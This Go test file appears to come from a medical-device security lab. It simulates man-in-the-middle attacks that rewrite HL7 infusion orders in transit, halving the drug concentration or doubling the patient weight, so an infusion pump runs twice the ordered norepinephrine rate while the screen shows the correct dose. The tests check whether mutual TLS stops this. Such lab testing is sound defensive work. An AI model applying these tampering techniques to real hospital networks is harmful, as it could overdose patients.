package scenarios

import (
	"context"
	"fmt"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	"github.com/pumplab/pumplab/harness"
	"github.com/pumplab/pumplab/harness/attack"
	"github.com/pumplab/pumplab/harness/score"
	"github.com/pumplab/pumplab/lab"
	"github.com/pumplab/pumplab/simulators/hl7"
)

// mitmCase is one man-in-the-middle change of the BCMA's PCD-03 on its way
// to the pump server (REFERENCE.md §3.1 ATK-12, ATK-13): the screen shows
// the ordered dose, the pump runs twice the rate.
type mitmCase struct {
	id, mrn    string
	techniques []string
	criteria   string
	tamper     func(r *hl7.RGV)
}

// mitmPCD03 runs a mitmCase. The attacker holds an on-path position on the
// BCMA -> pump server link and tries TLS interception with its own
// certificate; under mtls-mllp the BCMA refuses that certificate.
func mitmPCD03(ctx context.Context, f *harness.Framework, c mitmCase) {
	w, cancel := f.Context(ctx, f.Timeouts.Therapy)
	defer cancel()
	cl := f.Lab.Clinical()
	pumpID := f.Lab.Pumps()[2]

	By("admitting, ordering norepinephrine 0.05 mcg/kg/min (4 mg/250 mL, 70 kg) and verifying it")
	Expect(cl.Admit(w, lab.Patient{MRN: c.mrn, Family: "Testpatient", Given: "Sam", DOB: "19650304", Sex: "M",
		Unit: "4W ICU", Room: "14", Bed: "A", WeightKg: 70})).To(Succeed())
	orderID, err := cl.Order(w, lab.Order{MRN: c.mrn, DrugCode: "NOREPI-4-250", DrugText: "Norepinephrine 4 mg/250 mL",
		DoseRate: 0.05, DoseUnit: "mcg/kg/min", DrugAmount: 4, DrugUnit: "mg", DiluentML: 250, VTBI: 250, Device: "IVP", Prescriber: "MD0007"})
	Expect(err).NotTo(HaveOccurred())
	Expect(cl.Verify(w, orderID, "RPH0001")).To(Succeed())
	ioc, err := endpoint(f.Lab, "pumpserver-ioc")
	Expect(err).NotTo(HaveOccurred())

	By("the attacker on the BCMA -> pump-server path, rewriting the PCD-03 as the nurse scans")
	intercept, err := attack.SelfSignedTLS("pumpserver", "127.0.0.1")
	Expect(err).NotTo(HaveOccurred())
	proxy := attack.NewMLLPProxy(attack.MLLPProxyConfig{Upstream: ioc, InterceptTLS: intercept,
		Tamper: func(dir attack.Direction, m *hl7.Message) (*hl7.Message, bool) {
			if dir != attack.ToServer || !m.Type().Is("RGV", "O15") {
				return nil, false
			}
			r, err := hl7.ParseRGV(m)
			if err != nil {
				return nil, false
			}
			c.tamper(&r)
			return hl7.BuildRGV(r), false
		}})
	Expect(proxy.Start(context.WithoutCancel(w))).To(Succeed())
	DeferCleanup(proxy.Close)
	step := attack.Step{ScenarioID: c.id, StepID: c.id + "/1", Techniques: c.techniques, Tactic: "TA0106",
		Assets: []string{pumpID, "pumpserver", "emar-bcma"}, Correlation: []string{"mllp:" + ioc}, Criteria: c.criteria,
		Control: "mtls-mllp", Window: 15 * time.Minute}
	var res lab.AdminResult
	var scanErr error
	var restore func() error
	err = f.Attack(w, step, func(ctx context.Context) error {
		var err error
		if _, restore, err = f.Lab.Network().Interpose(ctx, lab.LinkBCMAToPumpServer, proxy.Addr()); err != nil {
			notApplicableIfUnsupported(f, err)
			return fmt.Errorf("interpose: %w", err)
		}
		res, scanErr = cl.Administer(ctx, lab.Scan{Nurse: "RN0042", MRN: c.mrn, Drug: "NOREPI-4-250", PumpID: pumpID, Channel: "A"})
		return nil
	})
	Expect(err).NotTo(HaveOccurred())
	th := therapy{PumpID: pumpID, Channel: "A", OrderID: orderID, MRN: c.mrn, RateMLH: 13.125}

	if f.ControlOn("mtls-mllp") {
		By("the BCMA refusing the attacker's certificate: no PCD-03 passes the man in the middle")
		ev := expectBlocked(w, f.Lab, "mtls-mllp")
		AddReportEntry("mtls-mllp", ev.Reason)
		Expect(scanErr != nil || !res.Accepted).To(BeTrue(), "the scan went through the attacker: %+v", res)
		Expect(proxy.Stats().Changed).To(BeZero())
		Eventually(func() int64 { return proxy.Stats().TLSRefused }).WithContext(w).Should(BeNumerically(">", 0))
		By("the link restored, the nurse scanning again: the ordered program runs")
		Expect(restore()).To(Succeed())
		res, err = cl.Administer(w, lab.Scan{Nurse: "RN0042", MRN: c.mrn, Drug: "NOREPI-4-250", PumpID: pumpID, Channel: "A"})
		Expect(err).NotTo(HaveOccurred())
		Expect(res.Accepted).To(BeTrue(), "RRG^O16 %s %s %s", res.AckCode, res.ErrCode, res.ErrText)
		Expect(f.Lab.Devices().WaitState(w, pumpID, "A", "infusing")).To(Succeed())
		observeBlocked(w, f, step.StepID, th, 10*time.Minute)
		return
	}

	By("the pump running the rewritten program after the nurse confirmed it")
	Expect(scanErr).NotTo(HaveOccurred())
	Expect(res.Accepted).To(BeTrue(), "RRG^O16 %s %s %s", res.AckCode, res.ErrCode, res.ErrText)
	Expect(proxy.Stats().Changed).To(BeNumerically(">=", 1))
	Expect(f.Lab.Devices().WaitState(w, pumpID, "A", "infusing")).To(Succeed())
	t, err := f.Lab.Devices().Truth(w, pumpID, "A")
	Expect(err).NotTo(HaveOccurred())
	AddReportEntry("displayed dose", fmt.Sprintf("%.4g %s", t.Displayed.DoseRate, t.Displayed.DoseUnit))
	AddReportEntry("pump rate (mL/h)", fmt.Sprintf("%.4g", t.Delivered.RateMLH))
	harm, err := harmOver(w, f.Lab, th, 30*time.Minute)
	Expect(err).NotTo(HaveOccurred())
	f.Observe(step.StepID, score.Observed{Effect: true, Harm: harm})
	AddReportEntry("DDR", fmt.Sprintf("%.3f", harm.DDR))
	Expect(t.Displayed.DoseRate).To(BeNumerically("~", 0.05, 1e-9), "the screen shows the ordered dose")
	Expect(harm.DDR).To(BeNumerically("~", 2.0, 0.05), "twice the ordered drug reaches the patient")
}

var _ = Describe("ATK-12 concentration falsification in transit", harness.Register("ATK-12", "Concentration falsification in transit (RXG-17/18, RXG-23/24)",
	harness.Kind("attack"), harness.Technique("T0830"), harness.Technique("T0836"), harness.Technique("T0832"),
	harness.Area("AU"), harness.Area("DL"), harness.Area("US"), harness.Lifecycle("use"),
	harness.Target("emar"), harness.Target("pumpserver"), harness.Target("pump")), func() {
	f := harness.New("atk-12-concentration-falsification")

	It("halves the concentration in the PCD-03 so the pump runs twice the rate for the displayed dose", func(ctx SpecContext) {
		mitmPCD03(ctx, f, mitmCase{id: "ATK-12", mrn: "MRN5512", techniques: []string{"T0830", "T0836", "T0832"},
			criteria: "the pump runs the ordered dose at half the real concentration (twice the rate)",
			tamper:   func(r *hl7.RGV) { r.DrugAmount /= 2 }})
	})
})

var _ = Describe("ATK-13 patient weight tampering in transit", harness.Register("ATK-13", "Patient weight tampering (OBX MDC_ATTR_PT_WEIGHT)",
	harness.Kind("attack"), harness.Technique("T0836"), harness.Technique("T0830"),
	harness.Area("AU"), harness.Area("US"), harness.Lifecycle("use"),
	harness.Target("emar"), harness.Target("pumpserver"), harness.Target("pump")), func() {
	f := harness.New("atk-13-weight-tampering")

	It("doubles the patient weight in the PCD-03 so a per-kg dose runs at twice the rate", func(ctx SpecContext) {
		mitmPCD03(ctx, f, mitmCase{id: "ATK-13", mrn: "MRN5513", techniques: []string{"T0836", "T0830"},
			criteria: "the pump computes the per-kg dose from a doubled weight",
			tamper:   func(r *hl7.RGV) { r.WeightKg *= 2 }})
	})
})
